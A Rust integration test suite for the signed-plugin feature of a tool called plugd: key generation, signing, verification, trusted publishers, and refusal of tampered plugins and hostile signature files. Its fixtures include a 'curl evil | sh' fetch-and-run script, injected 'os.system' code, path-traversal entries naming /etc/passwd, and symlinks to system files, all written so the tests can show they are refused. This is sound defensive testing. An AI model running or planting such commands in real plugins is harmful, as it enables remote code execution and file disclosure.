//! Signed plugins through real `plugd` processes: `plugin keygen | sign |
//! verify`, `require_signatures` and `trusted_publishers` in plugd.yaml at
//! approval and at start (a real `plugd serve`), what `plugin show` says, and
//! hostile signature files and trees. Each refusal asserts the reason.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Output;

use serde_json::{Value, json};

use crate::http::Serve;
use crate::marketplace::{Key, keygen};
use crate::support::{Ws, repo, stderr, stdout};

const SIG: &str = "marketplace.signature.json";

fn sign(ws: &Ws, dir: &Path, key: &Key) -> Output {
    ws.plugd(&[
        "plugin",
        "sign",
        dir.to_str().unwrap(),
        "--key",
        key.path.to_str().unwrap(),
    ])
}

fn signed(ws: &Ws, dir: &Path, key: &Key) {
    let out = sign(ws, dir, key);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stdout(&out).contains(&key.id), "{}", stdout(&out));
}

fn verify(ws: &Ws, dir: &Path) -> Output {
    ws.plugd(&["plugin", "verify", dir.to_str().unwrap()])
}

/// `verify` fails (exit 1) with `needle` in its one-line error.
#[track_caller]
fn verify_fails(ws: &Ws, dir: &Path, needle: &str) {
    let out = verify(ws, dir);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.starts_with("plugd: error: verification failed"),
        "{err}"
    );
    assert!(err.contains(needle), "{needle:?} not in {err}");
}

fn trust(ws: &Ws, require: bool, publishers: &[(&str, &Key)]) {
    let mut yaml = format!("require_signatures: {require}\ntrusted_publishers:\n");
    for (name, key) in publishers {
        yaml.push_str(&format!(
            "  - {{name: {name}, public_key: \"{}\"}}\n",
            key.public
        ));
    }
    if publishers.is_empty() {
        yaml.push_str("  []\n");
    }
    std::fs::write(ws.dir().join("plugd.yaml"), yaml).unwrap();
}

fn show(ws: &Ws, id: &str) -> String {
    let out = ws.plugd(&["plugin", "show", id]);
    assert!(out.status.success(), "{}", stderr(&out));
    stdout(&out)
}

fn show_json(ws: &Ws, id: &str) -> Value {
    let out = ws.plugd(&["plugin", "show", id, "--json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    serde_json::from_slice(&out.stdout).unwrap()
}

#[test]
fn keygen_sign_verify_then_approve_and_call_with_signatures_required() {
    let ws = Ws::new();
    let key = keygen(&ws, "acme");
    let mode = std::fs::metadata(&key.path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "the private key is the owner's only");
    assert!(
        std::fs::read_to_string(&key.path)
            .unwrap()
            .starts_with("-----BEGIN PRIVATE KEY-----")
    );
    assert!(key.public.starts_with("ed25519:") && key.id.len() == 16);

    let dir = ws.example("hello-python");
    signed(&ws, &dir, &key);
    let sig: Value =
        serde_json::from_str(&std::fs::read_to_string(dir.join(SIG)).unwrap()).unwrap();
    assert_eq!(sig["format"], "plugd-signature/1");
    assert_eq!(sig["algorithm"], "ed25519");
    assert_eq!(sig["key_id"], key.id.as_str());
    assert_eq!(
        format!("ed25519:{}", sig["public_key"].as_str().unwrap()),
        key.public
    );
    let files: Vec<&String> = sig["files"].as_object().unwrap().keys().collect();
    assert_eq!(files, ["nexo-plugin.toml", "plugin.py"]);

    // No plugd.yaml: the signature verifies, the key is merely unknown.
    let out = verify(&ws, &dir);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains(&format!("signed by key {}", key.id))
            && stdout(&out).contains("not in plugd.yaml trusted_publishers"),
        "{}",
        stdout(&out)
    );

    trust(&ws, true, &[("acme", &key)]);
    let out = verify(&ws, &dir);
    assert!(
        stdout(&out).starts_with("OK: ")
            && stdout(&out).contains(&format!("signed by acme (key {})", key.id))
            && stdout(&out).contains("2 files unchanged"),
        "{}",
        stdout(&out)
    );
    assert!(
        show(&ws, "hello_python").contains(&format!("signature: signed by acme (key {})", key.id))
    );
    let sig = &show_json(&ws, "hello_python")["signature"];
    assert_eq!(sig["status"], "signed");
    assert_eq!(sig["publisher"], "acme");

    let out = ws.plugd(&["plugin", "approve", "hello_python"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let out = ws.plugd(&[
        "tool",
        "call",
        "hello_python_greet",
        "--args",
        r#"{"name":"Ada"}"#,
        "--json",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stdout(&out).contains("Hello, Ada!"), "{}", stdout(&out));
}

#[test]
fn verify_and_show_name_the_changed_added_and_removed_file() {
    let ws = Ws::new();
    let key = keygen(&ws, "k");
    let dir = ws.example("hello-python");
    std::fs::create_dir(dir.join("docs")).unwrap();
    std::fs::write(dir.join("docs/README.md"), "hello\n").unwrap();
    signed(&ws, &dir, &key);
    let original = std::fs::read(dir.join("plugin.py")).unwrap();

    std::fs::write(dir.join("plugin.py"), b"import os; os.system('id')\n").unwrap();
    verify_fails(&ws, &dir, "plugin.py changed");
    verify_fails(&ws, &dir, &format!("what key {} signed", key.id));
    assert!(
        show(&ws, "hello_python")
            .contains("signature: tampered: plugin.py changed since it was signed"),
        "{}",
        show(&ws, "hello_python")
    );
    let sig = &show_json(&ws, "hello_python")["signature"];
    assert_eq!(sig["status"], "invalid");
    assert_eq!(
        sig["changes"],
        json!([{"kind": "changed", "path": "plugin.py"}])
    );
    // A tampered signed plugin is refused even without require_signatures.
    let out = ws.plugd(&["plugin", "approve", "hello_python"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out)
            .contains("plugin \"hello_python\" was not approved: its signature check failed")
            && stderr(&out).contains("plugin.py changed"),
        "{}",
        stderr(&out)
    );
    std::fs::write(dir.join("plugin.py"), &original).unwrap();
    assert!(verify(&ws, &dir).status.success());

    std::fs::write(dir.join("docs/extra.py"), "print('new')\n").unwrap();
    verify_fails(&ws, &dir, "docs/extra.py added");
    std::fs::remove_file(dir.join("docs/extra.py")).unwrap();

    std::fs::remove_file(dir.join("docs/README.md")).unwrap();
    verify_fails(&ws, &dir, "docs/README.md removed");

    // Several at once, in path order.
    std::fs::write(dir.join("plugin.py"), "x\n").unwrap();
    std::fs::write(dir.join("zz.txt"), "x\n").unwrap();
    verify_fails(
        &ws,
        &dir,
        "docs/README.md removed, plugin.py changed, zz.txt added",
    );
}

#[test]
fn require_signatures_refuses_unsigned_and_untrusted_plugins_at_approval() {
    let ws = Ws::new();
    let acme = keygen(&ws, "acme");
    let mallory = keygen(&ws, "mallory");
    trust(&ws, true, &[("acme", &acme)]);
    let dir = ws.misbehave("plain", "good", None, "");

    assert_eq!(
        show_json(&ws, "plain")["signature"]["status"],
        "unsigned",
        "{}",
        show(&ws, "plain")
    );
    let out = ws.plugd(&["plugin", "approve", "plain"]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(
        err.contains("plugin \"plain\" was not approved: it is unsigned")
            && err.contains(&format!("{} has no {SIG}", dir.display()))
            && err.contains("require_signatures: true"),
        "{err}"
    );

    signed(&ws, &dir, &mallory);
    assert!(show(&ws, "plain").contains(&format!(
        "signature: signed by untrusted key {}",
        mallory.id
    )));
    let out = verify(&ws, &dir);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains(&format!(
            "is signed by key {} ({}), which is not in plugd.yaml trusted_publishers",
            mallory.id, mallory.public
        )),
        "{}",
        stderr(&out)
    );
    let out = ws.plugd(&["plugin", "approve", "plain"]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(
        err.contains(&format!(
            "plugin \"plain\" was not approved: it is signed by key {}, which is not in plugd.yaml trusted_publishers",
            mallory.id
        )) && err.contains(&mallory.public),
        "{err}"
    );
    assert!(!show_json(&ws, "plain")["approved"].as_bool().unwrap());

    // Trusting the key (or signing with a trusted one) lets it through.
    signed(&ws, &dir, &acme);
    let out = ws.plugd(&["plugin", "approve", "plain"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(show_json(&ws, "plain")["approved"].as_bool().unwrap());

    // Without require_signatures the untrusted signature is shown, not refused.
    trust(&ws, false, &[]);
    signed(&ws, &dir, &mallory);
    let out = ws.plugd(&["plugin", "approve", "plain"]);
    assert!(out.status.success(), "{}", stderr(&out));
}

#[test]
fn a_signed_approved_plugin_tampered_under_serve_does_not_start_and_the_call_names_the_file() {
    let ws = Ws::new();
    let acme = keygen(&ws, "acme");
    trust(&ws, true, &[("acme", &acme)]);
    let dir = ws.misbehave("sealed", "good", None, "");
    signed(&ws, &dir, &acme);
    let out = ws.plugd(&["plugin", "approve", "sealed"]);
    assert!(out.status.success(), "{}", stderr(&out));

    let serve = Serve::start(&ws, "127.0.0.1:0");
    let ok = serve.post("/v1/tools/sealed_echo:invoke", &json!({"args": {"x": 1}}));
    assert_eq!(ok.status, 200, "{:?}", ok.json());
    std::fs::write(dir.join("misbehave.py"), "import os; os.system('id')\n").unwrap();
    // Restarting in serve stops the running child; the next call starts it again.
    let out = ws.plugd(&["plugin", "restart", "sealed"]);
    assert!(
        out.status.success() && stdout(&out).contains("via plugd serve"),
        "{}",
        stderr(&out)
    );
    // A call in the instant before serve's watcher acts meets the start
    // gate (503, signature); from then on every call gets the 409 below.
    let end = std::time::Instant::now() + std::time::Duration::from_secs(5);
    let refused = loop {
        let r = serve.post("/v1/tools/sealed_echo:invoke", &json!({"args": {"x": 1}}));
        if r.status == 409 || std::time::Instant::now() > end {
            break r;
        }
        assert_eq!(r.status, 503, "{}", r.text());
        std::thread::sleep(std::time::Duration::from_millis(50));
    };
    let body = refused.json();
    let message = body["error"]["message"].as_str().unwrap_or_default();
    // Serve's watcher withholds the changed plugin's tools before any start
    // is tried; the call names the file (the start gate's signature refusal
    // is what a start would say, see the tests above).
    assert_eq!(refused.status, 409, "{body}");
    assert_eq!(body["error"]["code"], "plugin_changed", "{body}");
    assert!(
        message.contains("plugin \"sealed\" changed since it was approved")
            && message.contains("changed misbehave.py")
            && message.contains("plugd plugin approve sealed"),
        "{body}"
    );
    let (status, log) = serve.stop();
    assert!(status.success(), "{log}");
}

#[test]
fn hostile_signature_files_are_refused_with_the_reason() {
    let ws = Ws::new();
    let key = keygen(&ws, "a");
    let other = keygen(&ws, "b");
    let dir = ws.example("hello-python");
    signed(&ws, &dir, &key);
    let good: Value =
        serde_json::from_str(&std::fs::read_to_string(dir.join(SIG)).unwrap()).unwrap();
    let with = |k: &str, v: Value| {
        let mut s = good.clone();
        s[k] = v;
        s.to_string()
    };
    let other_b64 = other.public.strip_prefix("ed25519:").unwrap();
    let mut files = good["files"].clone();
    files["../outside.py"] = good["files"]["plugin.py"].clone();
    let mut absolute = good["files"].clone();
    absolute["/etc/passwd"] = good["files"]["plugin.py"].clone();
    let cases: Vec<(&str, String, String)> = vec![
        (
            "malformed JSON",
            "{\"format\": ".into(),
            "not a plugd-signature/1 signature file: EOF while parsing".into(),
        ),
        (
            "files of the wrong type",
            with("files", json!(5)),
            "invalid type: integer `5`, expected a map".into(),
        ),
        (
            "signature of the wrong type",
            with("signature", json!(["x"])),
            "invalid type: sequence, expected a string".into(),
        ),
        (
            "an unknown field",
            with("comment", json!("trust me")),
            "unknown field `comment`".into(),
        ),
        (
            "another format",
            with("format", json!("plugd-signature/9")),
            "format: \"plugd-signature/9\" is not supported".into(),
        ),
        (
            "a ../ path",
            with("files", files),
            "files: \"../outside.py\" has an empty, \".\" or \"..\" component".into(),
        ),
        (
            "an absolute path",
            with("files", absolute),
            "files: \"/etc/passwd\" is an absolute path".into(),
        ),
        (
            "a digest that is not the listing's",
            with("digest", json!(format!("sha256:{}", "0".repeat(64)))),
            "digest: \"sha256:0000".into(),
        ),
        (
            "another key's public_key (a lie about who signed)",
            with("public_key", json!(other_b64)),
            format!(
                "key_id: {:?} is not the id of the file's public_key (that key's id is {:?})",
                key.id, other.id
            ),
        ),
        (
            "another key's public_key and key_id",
            {
                let mut s = good.clone();
                s["public_key"] = json!(other_b64);
                s["key_id"] = json!(other.id);
                s.to_string()
            },
            format!(
                "the signature does not verify with its public_key (key id {})",
                other.id
            ),
        ),
        (
            "a signature of the wrong length",
            with("signature", json!("AAAA")),
            "signature: decodes to 3 bytes".into(),
        ),
        (
            "a later signed_at",
            with("signed_at", json!("2099-01-01T00:00:00Z")),
            format!(
                "the signature does not verify with its public_key (key id {})",
                key.id
            ),
        ),
    ];
    for (what, text, needle) in cases {
        std::fs::write(dir.join(SIG), &text).unwrap();
        let out = verify(&ws, &dir);
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(1), "{what}: {err}");
        assert!(
            err.contains(&format!("{SIG}: ")) && err.contains(&needle),
            "{what}: {needle:?} not in {err}"
        );
    }

    // Oversized: refused before it is parsed, naming the limit.
    let big = format!("{{\"format\": \"{}\"}}", "x".repeat(9 * 1024 * 1024));
    std::fs::write(dir.join(SIG), big).unwrap();
    verify_fails(&ws, &dir, "over the 8388608-byte limit");
    // The same reasons refuse approval.
    let out = ws.plugd(&["plugin", "approve", "hello_python"]);
    assert!(
        stderr(&out).contains("was not approved: its signature check failed")
            && stderr(&out).contains("over the 8388608-byte limit"),
        "{}",
        stderr(&out)
    );

    // A signature file that is a symlink is not followed.
    std::fs::remove_file(dir.join(SIG)).unwrap();
    let elsewhere = ws.dir().join("elsewhere.json");
    std::fs::write(&elsewhere, good.to_string()).unwrap();
    std::os::unix::fs::symlink(&elsewhere, dir.join(SIG)).unwrap();
    verify_fails(&ws, &dir, "it is a symlink");
}

#[test]
fn a_symlink_in_a_plugin_directory_cannot_be_signed_or_pass_verification() {
    let ws = Ws::new();
    let key = keygen(&ws, "k");
    let dir = ws.example("hello-python");
    std::os::unix::fs::symlink("/etc/passwd", dir.join("leak")).unwrap();
    let out = sign(&ws, &dir, &key);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("cannot sign")
            && stderr(&out).contains("leak is a symlink (to \"/etc/passwd\")"),
        "{}",
        stderr(&out)
    );
    assert!(!dir.join(SIG).exists());

    std::fs::remove_file(dir.join("leak")).unwrap();
    signed(&ws, &dir, &key);
    std::fs::create_dir(dir.join("lib")).unwrap();
    std::os::unix::fs::symlink("/root", dir.join("lib/home")).unwrap();
    verify_fails(&ws, &dir, "lib/home is a symlink (to \"/root\")");
    assert!(
        show(&ws, "hello_python").contains("signature: invalid: lib/home is a symlink"),
        "{}",
        show(&ws, "hello_python")
    );
}

#[test]
fn an_openssl_key_signs_and_a_key_others_can_read_is_refused() {
    let ws = Ws::new();
    let pem = ws.dir().join("openssl.pem");
    #[allow(clippy::disallowed_methods)] // the test runs the real openssl
    let out = std::process::Command::new("openssl")
        .args(["genpkey", "-algorithm", "ed25519", "-out"])
        .arg(&pem)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    std::fs::set_permissions(&pem, std::fs::Permissions::from_mode(0o644)).unwrap();
    let key = Key {
        path: pem.clone(),
        public: String::new(),
        id: String::new(),
    };
    let dir = ws.example("hello-python");
    let out = sign(&ws, &dir, &key);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("can be read by other users (mode 0644)")
            && stderr(&out).contains("chmod 600"),
        "{}",
        stderr(&out)
    );
    std::fs::set_permissions(&pem, std::fs::Permissions::from_mode(0o600)).unwrap();
    let out = sign(&ws, &dir, &key);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(verify(&ws, &dir).status.success());

    std::fs::write(
        ws.dir().join("junk.pem"),
        "-----BEGIN PRIVATE KEY-----\nAAAA\n",
    )
    .unwrap();
    std::fs::set_permissions(
        ws.dir().join("junk.pem"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    let junk = Key {
        path: ws.dir().join("junk.pem"),
        public: String::new(),
        id: String::new(),
    };
    let out = sign(&ws, &dir, &junk);
    assert!(
        stderr(&out).contains("is not an Ed25519 private key in PKCS#8 PEM"),
        "{}",
        stderr(&out)
    );
    // keygen never overwrites.
    let out = ws.plugd(&["plugin", "keygen", "--out", pem.to_str().unwrap()]);
    assert!(stderr(&out).contains("already exists"), "{}", stderr(&out));
}

#[test]
fn salmex_and_vai_plugins_are_signed_too_while_microapps_and_mcp_servers_cannot_be() {
    let ws = Ws::new();
    let acme = keygen(&ws, "acme");
    let salmex = ws.example("hello-salmex-python");
    signed(&ws, &salmex, &acme);
    let vai = ws.plugin_dir("vai-devkit");
    crate::support::copy_dir(&repo().join("examples/workspace/.plugins/vai-devkit"), &vai);
    signed(&ws, &vai, &acme);
    std::fs::create_dir_all(ws.dir().join("extensions/hello")).unwrap();
    std::fs::copy(
        repo().join("examples/workspace/extensions/hello/main.py"),
        ws.dir().join("extensions/hello/main.py"),
    )
    .unwrap();
    std::fs::write(
        ws.dir().join("extensions.yaml"),
        "entries:\n  hello:\n    path: extensions/hello/main.py\n",
    )
    .unwrap();
    trust(&ws, true, &[("acme", &acme)]);

    let line = format!("signature: signed by acme (key {})", acme.id);
    assert!(show(&ws, "hello-salmex-python").contains(&line));
    assert!(show(&ws, "acme/devkit").contains(&line));
    let hello = show(&ws, "hello");
    assert!(
        hello.contains(
            "signature: not applicable (a microapp is declared by an extensions.yaml entry"
        ),
        "{hello}"
    );
    let out = ws.plugd(&["plugin", "approve", "hello"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("plugin \"hello\" was not approved: plugd.yaml sets require_signatures: true and a microapp is declared by an extensions.yaml entry"),
        "{}",
        stderr(&out)
    );

    std::fs::write(
        vai.join("bin").join("extra.sh"),
        "#!/bin/sh\ncurl evil | sh\n",
    )
    .unwrap();
    let out = ws.plugd(&["plugin", "approve", "acme/devkit"]);
    assert!(
        stderr(&out).contains("bin/extra.sh added"),
        "{}",
        stderr(&out)
    );
}

/// docs/signatures.md is enough to check a signature without plugd: the
/// listing from `find | sort | sha256sum`, the payload by hand, the Ed25519
/// signature with `openssl pkeyutl`, the public key from the openssl key.
#[test]
fn a_signature_checks_out_with_sha256sum_and_openssl_as_the_doc_describes() {
    let ws = Ws::new();
    let dir = ws.example("hello-python");
    std::fs::create_dir(dir.join("lib")).unwrap();
    std::fs::write(dir.join("lib/ünïcode name.txt"), "x\n").unwrap();
    std::fs::write(dir.join("Zed.md"), "upper case sorts first\n").unwrap();
    let pem = ws.dir().join("k.pem");
    let script = r#"
set -eu
cd "$1"
openssl genpkey -algorithm ed25519 -out "$2" 2>/dev/null
chmod 600 "$2"
"$3" --workspace "$4" plugin sign . --key "$2" >/dev/null
sig=marketplace.signature.json
field() { python3 -c "import json,sys; print(json.load(open('$sig'))[sys.argv[1]])" "$1"; }
# The canonical listing and its digest, from coreutils alone.
listing=$(find . -type f ! -path "./$sig" | sed 's|^\./||' | LC_ALL=C sort | while IFS= read -r f; do
  printf 'sha256:%s  %s\n' "$(sha256sum < "$f" | cut -d' ' -f1)" "$f"; done)
digest="sha256:$(printf '%s\n' "$listing" | sha256sum | cut -d' ' -f1)"
[ "$digest" = "$(field digest)" ] || { echo "digest $digest != $(field digest)"; exit 1; }
# The public key is the openssl key's, its id the first 8 bytes of its SHA-256.
pub=$(openssl pkey -in "$2" -pubout -outform DER | tail -c 32 | base64 -w0)
[ "$pub" = "$(field public_key)" ] || { echo "public key differs"; exit 1; }
id=$(printf '%s' "$pub" | base64 -d | sha256sum | cut -c1-16)
[ "$id" = "$(field key_id)" ] || { echo "key id differs"; exit 1; }
# The payload and the signature.
tmp=$(mktemp -d)
printf 'plugd-signature/1\ned25519\n%s\n%s\n%s\n' "$id" "$(field signed_at)" "$digest" > "$tmp/payload"
field signature | base64 -d > "$tmp/sig"
openssl pkey -in "$2" -pubout -out "$tmp/pub.pem"
openssl pkeyutl -verify -pubin -inkey "$tmp/pub.pem" -rawin -in "$tmp/payload" -sigfile "$tmp/sig"
"#;
    #[allow(clippy::disallowed_methods)] // the test runs bash, coreutils and openssl
    let out = std::process::Command::new("bash")
        .args(["-c", script, "check"])
        .arg(&dir)
        .arg(&pem)
        .arg(env!("CARGO_BIN_EXE_plugd"))
        .arg(ws.dir())
        .output()
        .unwrap();
    assert!(
        out.status.success() && stdout(&out).contains("Signature Verified Successfully"),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
}
